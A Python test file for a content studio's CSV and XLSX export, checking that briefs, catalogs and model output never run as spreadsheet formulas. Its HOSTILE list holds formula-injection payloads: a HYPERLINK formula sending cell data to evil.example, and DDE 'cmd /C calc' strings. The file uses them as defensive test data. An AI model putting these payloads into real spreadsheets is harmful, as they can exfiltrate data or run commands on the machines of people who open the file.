"""What the studio hands to spreadsheets, opened as a spreadsheet would: no cell from a brief, a catalog or a model
runs as a formula, in CSV or XLSX; and a catalog's formula cells are read as the values they show, or refused
naming the cell, never read as empty."""
import csv
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from PIL import Image

from core.content.brief import Brief
from core.image.engine import RenderedImage
from core.image.settings import ImageSettings
from core.studio.batch import BatchItem, Batches, export_batch, guess_columns, item_message, plan_batch, read_catalog
from core.studio.export import export_zip
from core.studio.history import HistoryStore
from core.studio.spreadsheets import csv_cell, formula_like

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Clique")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+55 11 4000",
           "=1+1", "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1"]
# what a spreadsheet evaluates: a cell opening with one of these, after any spaces
RUNS = re.compile(r"^[ \u00a0]*[=+\-@\t\r\n＝＋－＠]")


def rendered(seed: int, prompt: str) -> RenderedImage:
    return RenderedImage(image=Image.new("RGB", (32, 32), (seed, 90, 30)), seed=seed, prompt=prompt,
                         negative_prompt="@blurry", settings=ImageSettings(steps=20, seed=seed, guidance=7.5),
                         model_names=["base", "refiner"], test_weights=True)


@pytest.fixture
def hostile_batch(tmp_path):
    """A batch whose drafts carry a formula in every text field a person or a model fills."""
    store = HistoryStore(tmp_path / "history")
    items = []
    for n, text in enumerate(HOSTILE):
        typed = text.replace("\r", "")  # a brief refuses a carriage return; a model's answer may hold one
        brief = Brief(product=typed, key_facts=typed, call_to_action="Peça já", audience=typed)
        draft_id = store.create_draft(brief, f"{text} Peça já", text, text, "Ana")
        store.add_image_version(draft_id, rendered(n + 1, text), "Ana")
        items.append(BatchItem(n + 2, "instagram", brief.to_dict(), "done", draft_id))
    items.append(BatchItem(len(HOSTILE) + 2, "instagram", {"product": "=EVIL()"}, "failed",
                           error={"code": "catalog_row", "params": {"row": 1, "column": "=A1", "problem": "-x"}}))
    batch = Batches(store).create("=catalogo.csv", items, "Ana", "pt-BR", None, images=False)
    return store, batch


def cells_of(archive: zipfile.ZipFile, name: str, language: str) -> list[list[str]]:
    separator = "," if language == "en" else ";"
    return list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")), delimiter=separator))


@pytest.mark.parametrize("language", ["pt-BR", "en", "es"])
def test_no_exported_cell_runs_as_a_formula_and_every_text_survives(hostile_batch, language):
    store, batch = hostile_batch
    archive = zipfile.ZipFile(io.BytesIO(export_batch(store, batch, language)))
    neutralised = 0
    for name in ("batch.csv", "manifest.csv"):
        for row in cells_of(archive, name, language):
            for cell in row:
                assert not RUNS.match(cell), (name, cell)
                neutralised += cell.startswith("'")
    assert neutralised >= 3 * len(HOSTILE)  # product, prompt, negative prompt at least, in each
    for name in ("batch.xlsx", "manifest.xlsx"):
        book = load_workbook(io.BytesIO(archive.read(name)))  # formulas as written, not cached values
        texts = []
        for row in book.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if formula_like(cell.value):
                        assert cell.quotePrefix, (name, cell.coordinate)
        if name == "manifest.xlsx":
            for text in HOSTILE:  # the model's prompt itself is kept exactly, only marked as text
                assert text.replace("\r", "\n") in texts, (name, text)  # XML reads a \r as a line feed
    manifest = cells_of(archive, "manifest.csv", language)
    assert len(manifest) == 1 + len(HOSTILE)
    prompt_column = manifest[0].index({"pt-BR": "prompt visual", "en": "visual prompt", "es": "prompt visual"}[language])
    assert {row[prompt_column] for row in manifest[1:]} == {"'" + text for text in HOSTILE}


def test_a_models_control_characters_never_break_the_workbook():
    from core.studio.spreadsheets import write_xlsx
    book = load_workbook(io.BytesIO(write_xlsx(["texto"], [["Café\x00 bom\x08\x1f já\tagora\n"], ["=\x01"]])))
    assert [c.value for c in book.active["A"]] == ["texto", "Café\ufffd bom\ufffd\ufffd já\tagora\n", "=\ufffd"]
    assert book.active["A3"].quotePrefix and book.active["A3"].data_type == "s"


def test_numbers_keep_the_locales_decimal_mark_and_plain_text_is_untouched():
    assert csv_cell(7.5, "pt-BR") == "7,5" and csv_cell(7.5, "en") == "7.5" and csv_cell(30, "es") == "30"
    for plain in ("Café Serra Azul", "R$ 29,90", "2+2 cafés", "e-mail", "#NaturaViva", ""):
        assert csv_cell(plain) == plain


def test_an_export_of_one_draft_writes_a_manager_readable_xlsx_beside_the_csv(hostile_batch):
    store, batch = hostile_batch
    archive = zipfile.ZipFile(io.BytesIO(export_zip(store, [batch.items[0].draft_id], "pt-BR")))
    sheet = load_workbook(io.BytesIO(archive.read("manifest.xlsx"))).active
    headings = [cell.value for cell in sheet[1]]
    assert headings[:3] == ["rascunho", "produto", "estado"]
    row = dict(zip(headings, [cell.value for cell in sheet[2]]))
    assert row["semente"] == 1 and row["orientação"] == 7.5 and row["favorita"] == "não"  # numbers stay numbers
    assert row["produto"] == HOSTILE[0] and sheet["B2"].quotePrefix


def workbook(rows, patch=None) -> bytes:
    """An XLSX as openpyxl writes it (formulas without saved results); patch edits its sheet's XML, as Excel
    would have saved a result beside a formula."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    if patch is None:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = patch(data.decode()).encode()
            target.writestr(item, data)
    return out.getvalue()


def test_a_catalog_formula_reads_as_its_saved_value_or_is_refused_naming_the_cell():
    rows = [["Produto", "Fatos", "Preço"],
            ["Café Serra Azul", '=CONCAT("torra média, ", "250 g")', "=10*2.99"],
            ["Bolsa Couro", "couro legítimo", 199],
            ['="Chá " & "Verde"', "orgânico", 15]]
    # 1. as openpyxl (or a script) writes it: no saved results, so those rows are refused naming the cell
    catalog = read_catalog(workbook(rows), "catalogo.xlsx")
    items = plan_batch(catalog, guess_columns(catalog.headers), ["instagram"])
    assert [(item.row, item.status) for item in items] == [(2, "failed"), (3, "pending"), (4, "failed")]
    said = item_message(items[0]).text("pt-BR")
    assert said.startswith("linha 2, coluna Fatos: a célula B2 tem uma fórmula") and "CONCAT" in said
    assert item_message(items[2]).text("en").startswith("row 4, column Produto: cell A4 holds a formula")
    assert items[1].brief["product"] == "Bolsa Couro" and "199" in items[1].brief["key_facts"]

    # 2. as Excel or Sheets save it: the results they show are read
    def saved_results(xml: str) -> str:
        xml = re.sub(r'(<c r="B2"[^>]*>)<f>(.*?)</f><v\s*/?>(</v>)?', r'\1<f>\2</f><v>torra média, 250 g</v>', xml)
        xml = xml.replace('<c r="B2" t="', '<c r="B2" x="').replace('<c r="B2"', '<c r="B2" t="str"', 1)
        xml = re.sub(r'(<c r="C2"[^>]*>)<f>(.*?)</f><v\s*/?>(</v>)?', r'\1<f>\2</f><v>29.9</v>', xml)
        xml = re.sub(r'(<c r="A4"[^>]*>)<f>(.*?)</f><v\s*/?>(</v>)?', r'\1<f>\2</f><v>Chá Verde</v>', xml)
        return xml.replace('<c r="A4"', '<c r="A4" t="str"', 1)
    catalog = read_catalog(workbook(rows, saved_results), "catalogo.xlsx")
    assert catalog.formulas == {}
    items = plan_batch(catalog, guess_columns(catalog.headers), ["instagram"])
    assert [item.status for item in items] == ["pending"] * 3
    first, _, third = (item.brief for item in items)
    assert first["key_facts"] == "torra média, 250 g\nPreço: 29.9" and third["product"] == "Chá Verde"
